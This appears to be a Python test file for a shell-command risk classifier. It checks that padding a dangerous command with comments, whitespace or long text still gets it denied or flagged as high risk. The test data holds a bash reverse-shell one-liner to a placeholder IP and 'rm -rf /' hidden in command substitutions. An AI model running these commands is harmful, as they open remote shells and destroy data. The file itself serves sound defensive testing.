"""A text that cannot be read whole is never judged milder than what stands in it."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.actions import Decision, RiskLevel
from core.risk.shell.rules import classify_command
from core.risk.shell.unread import collapse

SHELL = "bash -i >& /dev/tcp/198.51.100.7/9 0>&1"
NOTES = "release notes\n" * 500


@pytest.mark.parametrize(
    "padded",
    [
        f"{SHELL} #{'x' * 6_000}",
        f"{SHELL} # {'x' * 200_000}",
        SHELL + "\n" * 6_000,
        SHELL + " " * 6_000,
        f"{SHELL}; echo '{NOTES}'",
        f"echo '{NOTES}' > notes.md\n{SHELL}",
        f'echo "{NOTES}" > notes.md\n{SHELL}',
        f"'a'; {SHELL}; 'b' # {'z' * 7_000}",
        f"echo it\\'s; {SHELL}; echo it\\'s # {'z' * 7_000}",
        f"{SHELL} #\0",
    ],
)
def test_what_is_denied_is_denied_with_padding(padded: str) -> None:
    assert classify_command(padded).decision is Decision.DENY


@pytest.mark.parametrize(
    "text", ["echo " + "a " * 4_000, f"bash -c '{'a ' * 4_000}{SHELL}'", "ls #\0", "x" * 200_000]
)
def test_what_cannot_be_read_is_of_high_risk(text: str) -> None:
    found = classify_command(text)
    assert found.decision is Decision.ASK
    assert found.findings[0].level is RiskLevel.HIGH


def test_a_long_text_that_a_program_is_given_still_goes_through() -> None:
    assert classify_command(f"cat > notes.md <<'EOF'\n{NOTES}EOF").decision is Decision.ALLOW


def test_text_with_substitutions_is_kept() -> None:
    long = f'echo "{"a" * 300}$(rm -rf /)" "{"a" * 300}`rm -rf /`"'
    assert collapse(long) == long


@given(st.text(alphabet="ab'\"\\$`;&", max_size=200))
def test_what_is_no_padding_is_kept(text: str) -> None:
    assert collapse(text) == text
